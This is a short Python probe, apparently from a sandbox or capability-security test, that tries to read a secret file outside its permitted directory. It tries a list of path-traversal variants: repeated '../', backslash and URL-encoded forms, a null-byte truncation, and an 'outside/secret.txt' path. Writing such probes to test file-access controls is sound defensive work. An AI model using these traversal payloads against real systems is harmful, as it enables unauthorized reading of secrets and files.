# proof: secret
# Climbs out of the directory that it was given.
from routes import first


def attempt(input, caps):
    up = "../" * 16 + input["secretFile"][1:]
    ways = [up, "./" + up, "x/../" + up, up.replace("../", "..\\"), up.replace("..", "%2e%2e"), "public.txt\0" + up, "././../outside/secret.txt"]
    return first(*[lambda path=path: caps.files.read_text(path) for path in ways])
